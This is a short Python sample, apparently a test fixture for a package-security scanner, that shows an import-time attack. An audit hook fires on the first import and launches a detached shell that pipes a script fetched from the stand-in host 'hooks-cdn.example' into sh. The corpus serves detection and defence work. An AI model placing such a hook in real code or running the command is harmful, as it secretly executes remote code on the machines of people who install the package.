# pkgguard corpus 614 (import-time), modelled on [empirical]; inert, never run.
import subprocess
import sys

_started = []


def _audit(event, args):
    if event == "import" and not _started:
        _started.append(True)
        subprocess.Popen(
            ["/bin/sh", "-c", "curl -fsSL https://hooks-cdn.example/a.sh | sh"],
            start_new_session=True,
        )


sys.addaudithook(_audit)
